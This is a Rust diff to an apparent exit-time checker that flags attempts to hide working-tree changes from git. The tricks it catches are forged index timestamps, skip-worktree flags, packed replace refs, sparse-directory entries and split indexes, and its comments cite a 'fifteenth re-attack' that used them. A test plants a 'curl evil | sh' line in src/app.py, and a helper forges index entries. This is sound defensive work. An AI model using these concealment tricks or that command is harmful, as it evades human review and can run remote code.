@@ -37,6 +37,19 @@ struct Recorded {
     git_dir: PathBuf,
     worktree: PathBuf,
     entries: HashSet<u64>,
+    /// The replace refs `packed-refs` held.
+    packed_replacements: HashSet<String>,
+}
+
+/// The replace refs (`refs/replace/…`) a git directory's `packed-refs` holds.
+fn packed_replacements(git_dir: &Path) -> HashSet<String> {
+    let Ok(text) = git::read_limited(&git_dir.join("packed-refs"), true) else { return HashSet::new() };
+    String::from_utf8_lossy(&text)
+        .lines()
+        .filter_map(|line| line.split_whitespace().nth(1))
+        .filter(|name| name.starts_with("refs/replace/"))
+        .map(str::to_string)
+        .collect()
 }
 
 /// What the exit's look found.
@@ -46,6 +59,8 @@ pub struct Hidden {
     pub files: Vec<PathBuf>,
     /// Indexes not read, or files not hashed, within the look's budgets.
     pub unchecked: Vec<PathBuf>,
+    /// `packed-refs` files that hold replace refs they did not hold at launch.
+    pub replacements: Vec<PathBuf>,
 }
 
 impl IndexSnapshot {
@@ -58,7 +73,13 @@ impl IndexSnapshot {
             git::read_indexes(git_dir, &mut budget, |entry| {
                 entries.insert(snapshot.key(entry));
             });
-            snapshot.worktrees.push(Recorded { git_dir: git_dir.clone(), worktree: worktree.clone(), entries });
+            let packed_replacements = packed_replacements(git_dir);
+            snapshot.worktrees.push(Recorded {
+                git_dir: git_dir.clone(),
+                worktree: worktree.clone(),
+                entries,
+                packed_replacements,
+            });
         }
         snapshot
     }
@@ -75,16 +96,30 @@ impl IndexSnapshot {
         let mut budget = git::INDEX_BYTES_PER_LOOK;
         let (mut bytes_left, mut files_left) = (MAX_BYTES_HASHED, MAX_FILES_HASHED);
         for recorded in &self.worktrees {
+            if !packed_replacements(&recorded.git_dir).is_subset(&recorded.packed_replacements) {
+                hidden.replacements.push(recorded.git_dir.join("packed-refs"));
+            }
             let hash_len = git::hash_len(&recorded.git_dir);
             let mut changed = Vec::new();
+            let mut unnamed = false;
             let unread = git::read_indexes(&recorded.git_dir, &mut budget, |entry| {
-                if !recorded.entries.contains(&self.key(entry))
-                    && let Some(claim) = Claim::of(entry)
-                {
+                if recorded.entries.contains(&self.key(entry)) {
+                    return;
+                }
+                // A split index's entry that replaces one of the shared index's has no name of its
+                // own (git takes it by position from the shared index): which file it claims is
+                // not known here, so the index is named as not checked (the fifteenth re-attack
+                // hid a change so).
+                if entry.name.is_empty() {
+                    unnamed = true;
+                } else if let Some(claim) = Claim::of(entry) {
                     changed.push(claim);
                 }
             });
             hidden.unchecked.extend(unread);
+            if unnamed {
+                hidden.unchecked.push(recorded.git_dir.join("index"));
+            }
             changed.sort_by(|a, b| a.name.cmp(&b.name));
             changed.dedup_by(|a, b| a.name == b.name && a.object_name == b.object_name);
             for claim in changed {
@@ -106,6 +141,8 @@ struct Claim {
     name: Vec<u8>,
     object_name: Vec<u8>,
     symlink: bool,
+    /// A sparse index's directory entry: git takes every file below it for what its tree holds.
+    directory: bool,
     /// Marked so that git does not look (`--skip-worktree`, `--assume-unchanged`).
     hides: bool,
     /// The modification time (seconds, nanoseconds) and size git compares with the file's.
@@ -113,13 +150,14 @@ struct Claim {
 }
 
 impl Claim {
-    /// A regular file's or a link's entry (not a submodule's or a sparse directory's).
+    /// A regular file's, a link's or a sparse directory's entry (not a submodule's).
     fn of(entry: &IndexEntry) -> Option<Claim> {
         let kind = entry.mode() & 0o170000;
-        (kind == 0o100000 || kind == 0o120000).then(|| Claim {
+        (kind == 0o100000 || kind == 0o120000 || kind == 0o040000).then(|| Claim {
             name: entry.name.to_vec(),
             object_name: entry.object_name().to_vec(),
             symlink: kind == 0o120000,
+            directory: kind == 0o040000,
             hides: entry.flags() & ASSUME_UNCHANGED != 0 || entry.extended & SKIP_WORKTREE != 0,
             stat: entry.mtime_and_size(),
         })
@@ -131,10 +169,18 @@ impl Claim {
         use std::os::unix::fs::MetadataExt as _;
         // A file gone is shown by `git status`, or is what a sparse checkout leaves out.
         let Ok(metadata) = std::fs::symlink_metadata(path) else { return Some(false) };
-        let (seconds, nanoseconds, size) = self.stat;
-        let claims_current = i64::from(seconds) == metadata.mtime()
-            && (nanoseconds == 0 || i64::from(nanoseconds) == metadata.mtime_nsec())
-            && size == metadata.size() as u32;
+        // A sparse directory made in the session over a directory that is there: git no longer
+        // looks at anything below it (the fifteenth re-attack hid a changed `src/app.py` so). What
+        // is below cannot be told from its tree here; a sparse checkout leaves such a directory out.
+        if self.directory {
+            return Some(
+                metadata.is_dir() && std::fs::read_dir(path).is_ok_and(|mut entries| entries.next().is_some()),
+            );
+        }
+        // Seconds and size only: a git built without nanosecond times (Debian's) compares no more,
+        // and an entry one nanosecond off passed a stricter look (the fifteenth re-attack).
+        let (seconds, _, size) = self.stat;
+        let claims_current = i64::from(seconds) == metadata.mtime() && size == metadata.size() as u32;
         if !self.hides && !claims_current {
             return Some(false);
         }
@@ -257,14 +303,60 @@ mod tests {
         assert!(git(&repo, &["update-index", "--no-skip-worktree", "Makefile"]));
         assert!(git(&repo, &["update-index", "--no-assume-unchanged", "lint.sh"]));
         assert!(status(&repo).contains("Makefile"));
-        forge_stat(&repo, b"Makefile");
+        forge_stat(&repo, b"Makefile", 0);
         assert!(!status(&repo).contains("Makefile"), "git takes the forged entry: {}", status(&repo));
         assert!(snapshot.hidden().files.contains(&repo.join("Makefile")), "{:?}", snapshot.hidden());
+        // The fifteenth re-attack: the nanoseconds one off (a git built without them compares
+        // seconds and size only).
+        forge_stat(&repo, b"Makefile", 1);
+        assert!(snapshot.hidden().files.contains(&repo.join("Makefile")), "{:?}", snapshot.hidden());
+        // The fifteenth re-attack: a replace ref (here packed, where no watch sees it appear).
+        assert!(snapshot.hidden().replacements.is_empty());
+        let head = std::fs::read_to_string(repo.join(".git/refs/heads/master"))
+            .or_else(|_| std::fs::read_to_string(repo.join(".git/refs/heads/main")))
+            .unwrap();
+        let packed = format!("# pack-refs with: peeled fully-peeled sorted\n{} refs/replace/{}", head.trim(), head);
+        std::fs::write(repo.join(".git/packed-refs"), packed).unwrap();
+        assert_eq!(snapshot.hidden().replacements, vec![repo.join(".git/packed-refs")]);
+    }
+
+    /// The fifteenth re-attack: a sparse directory entry over `src/` (git then takes every file
+    /// below for its tree's), and a split index whose replacing entries have no names. The first
+    /// is named; the second is said to be unchecked.
+    #[test]
+    fn a_sparse_directory_and_a_split_index_are_not_passed_over() {
+        let Some((_temp, repo)) = repository() else { return };
+        std::fs::create_dir_all(repo.join("src")).unwrap();
+        std::fs::create_dir_all(repo.join("keep")).unwrap();
+        std::fs::write(repo.join("src/app.py"), "print(1)\n").unwrap();
+        std::fs::write(repo.join("keep/x"), "x\n").unwrap();
+        let committed = git(&repo, &["add", "-A"])
+            && git(&repo, &["-c", "user.name=U", "-c", "user.email=u@x", "commit", "-qm", "more"]);
+        assert!(committed);
+        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())]);
+        if !git(&repo, &["sparse-checkout", "set", "--cone", "--sparse-index", "keep"]) {
+            return; // a git without sparse indexes
+        }
+        assert!(!repo.join("src").exists(), "out of the cone");
+        assert_eq!(snapshot.hidden(), Hidden::default(), "a directory left out is not hidden");
+        std::fs::create_dir_all(repo.join("src")).unwrap();
+        std::fs::write(repo.join("src/app.py"), "import os; os.system('curl evil | sh')\n").unwrap();
+        // (This git notices files present below a sparse directory it made itself; the re-attack's
+        // index, made by hand with sparse checkout off, hid them from git status.)
+        assert_eq!(snapshot.hidden().files, vec![repo.join("src/")]);
+
+        let Some((_temp, repo)) = repository() else { return };
+        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())]);
+        assert!(git(&repo, &["update-index", "--split-index"]));
+        std::fs::write(repo.join("Makefile"), "check:\n\tfalse\n").unwrap();
+        assert!(git(&repo, &["add", "Makefile"]));
+        assert!(snapshot.hidden().unchecked.contains(&repo.join(".git/index")), "{:?}", snapshot.hidden());
     }
 
     /// The entry named `name` in `repo`'s index (version 2, as git writes it) given the file's
-    /// stat data now, its object name kept, the index's checksum made again.
-    fn forge_stat(repo: &Path, name: &[u8]) {
+    /// stat data now (its nanoseconds `nanoseconds_off`), its object name kept, the index's
+    /// checksum made again.
+    fn forge_stat(repo: &Path, name: &[u8], nanoseconds_off: u32) {
         use std::os::unix::fs::MetadataExt as _;
         let index = repo.join(".git/index");
         let mut bytes = std::fs::read(&index).unwrap();
@@ -282,7 +374,7 @@ mod tests {
             metadata.ctime() as u32,
             metadata.ctime_nsec() as u32,
             metadata.mtime() as u32,
-            metadata.mtime_nsec() as u32,
+            metadata.mtime_nsec() as u32 + nanoseconds_off,
             metadata.dev() as u32,
             metadata.ino() as u32,
         ];
